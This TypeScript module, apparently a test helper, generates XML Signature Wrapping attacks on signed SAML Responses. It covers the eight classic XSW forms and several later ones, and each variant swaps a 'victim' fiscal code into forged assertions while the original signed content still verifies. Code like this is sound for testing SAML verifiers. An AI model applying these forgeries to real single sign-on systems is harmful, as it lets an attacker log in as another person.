import {
  DOMParser,
  XMLSerializer,
  type Document,
  type Element,
} from '@xmldom/xmldom';

const signatureNs = 'http://www.w3.org/2000/09/xmldsig#';
const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol';
/** Whom the attacker wants to be. */
const victim = 'TINIT-BRNMTT84E12G479T';

interface Parts {
  document: Document;
  response: Element;
  assertion: Element;
  /** Of the Response, where it has one. */
  outer: Element | undefined;
  /** Of the Assertion. */
  inner: Element;
}

/**
 * The eight forms of XML Signature Wrapping (Somorovsky et al., 'On Breaking SAML', USENIX Security 2012) and later
 * ones, on a signed answer, namespaces and signatures kept intact: what was signed is still in it, and verifies.
 */
export const wraps: Record<string, (parts: Parts) => void> = {
  // A copy of what was signed goes into the signature of a Response that says something else.
  'xsw1: Response in its signature': ({ response, outer, assertion }) => {
    const original = unsigned(response);
    outer?.appendChild(original);
    falsify(response, assertion);
  },
  'xsw2: Response beside its signature': ({ response, outer, assertion }) => {
    const original = unsigned(response);
    response.insertBefore(original, outer ?? null);
    falsify(response, assertion);
  },
  'xsw3: false Assertion before': ({ response, assertion }) => {
    response.insertBefore(falseCopy(assertion), assertion);
  },
  'xsw4: Assertion in a false one': ({ response, assertion }) => {
    const copy = falseCopy(assertion);
    response.replaceChild(copy, assertion);
    copy.appendChild(assertion);
  },
  'xsw5: Assertion after a false one with its signature': ({
    response,
    assertion,
    inner,
  }) => {
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(find(original, 'Signature'));
    response.appendChild(original);
    rename(assertion);
    assertion.appendChild(inner);
  },
  'xsw6: Assertion in the signature of a false one': ({ assertion, inner }) => {
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(find(original, 'Signature'));
    rename(assertion);
    inner.appendChild(original);
  },
  'xsw7: false Assertion in Extensions': ({
    document,
    response,
    assertion,
  }) => {
    const extensions = document.createElementNS(protocolNs, 'samlp:Extensions');
    extensions.appendChild(falseCopy(assertion));
    response.insertBefore(extensions, assertion);
  },
  'xsw8: Assertion in an Object of its signature': ({
    document,
    assertion,
    inner,
  }) => {
    const original = assertion.cloneNode(true) as Element;
    original.removeChild(find(original, 'Signature'));
    rename(assertion);
    const object = document.createElementNS(signatureNs, 'ds:Object');
    object.appendChild(original);
    inner.appendChild(object);
  },
  'false Assertion in an Object of the Response’s signature': ({
    document,
    assertion,
    outer,
  }) => {
    const object = document.createElementNS(signatureNs, 'ds:Object');
    object.appendChild(falseCopy(assertion));
    outer?.appendChild(object);
  },
  'false Assertion in StatusDetail': ({ document, response, assertion }) => {
    const detail = document.createElementNS(protocolNs, 'samlp:StatusDetail');
    detail.appendChild(falseCopy(assertion));
    find(response, 'Status').appendChild(detail);
  },
  'Assertion in StatusDetail, a false one in its place': ({
    document,
    response,
    assertion,
  }) => {
    const detail = document.createElementNS(protocolNs, 'samlp:StatusDetail');
    response.replaceChild(falseCopy(assertion), assertion);
    detail.appendChild(assertion);
    find(response, 'Status').appendChild(detail);
  },
  'two Assertions of one ID': ({ response, assertion }) => {
    const copy = falseCopy(assertion);
    copy.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    response.insertBefore(copy, assertion);
  },
  'false Assertion in no namespace': ({ document, response, assertion }) => {
    const plain = document.createElementNS(null, 'Assertion');
    plain.setAttribute('ID', '_plain');
    response.insertBefore(plain, assertion);
  },
  'false attributes beside the true': ({ assertion }) => {
    const statement = find(assertion, 'AttributeStatement');
    const copy = statement.cloneNode(true) as Element;
    beVictim(copy);
    assertion.insertBefore(copy, statement);
  },
  'signature of the Assertion moved to the Response': ({
    response,
    assertion,
    inner,
    outer,
  }) => {
    if (outer) response.removeChild(outer);
    response.insertBefore(inner, find(response, 'Status'));
    beVictim(assertion);
  },
};

export function wrapped(xml: string, wrap: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  if (!response) throw new TypeError('no root');
  const assertion = find(response, 'Assertion');
  const outer = children(response).find((one) => one.localName === 'Signature');
  const inner = find(assertion, 'Signature');
  wrap({ document, response, assertion, outer, inner });
  return new XMLSerializer().serializeToString(document);
}

function children(parent: Element): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element => node.nodeType === 1,
  );
}

function find(parent: Element, name: string): Element {
  const found = children(parent).find((child) => child.localName === name);
  if (!found) throw new TypeError(`no ${name}`);
  return found;
}

function unsigned(response: Element): Element {
  const copy = response.cloneNode(true) as Element;
  copy.removeChild(find(copy, 'Signature'));
  return copy;
}

function falsify(response: Element, assertion: Element): void {
  response.setAttribute('ID', '_false-response');
  rename(assertion);
  assertion.removeChild(find(assertion, 'Signature'));
}

function rename(assertion: Element): void {
  assertion.setAttribute('ID', '_false');
  beVictim(assertion);
}

function falseCopy(assertion: Element): Element {
  const copy = assertion.cloneNode(true) as Element;
  copy.removeChild(find(copy, 'Signature'));
  rename(copy);
  return copy;
}

function beVictim(parent: Element): void {
  for (const value of Array.from(
    parent.getElementsByTagNameNS('*', 'AttributeValue'),
  ))
    if (value.textContent?.startsWith('TINIT-')) value.textContent = victim;
}
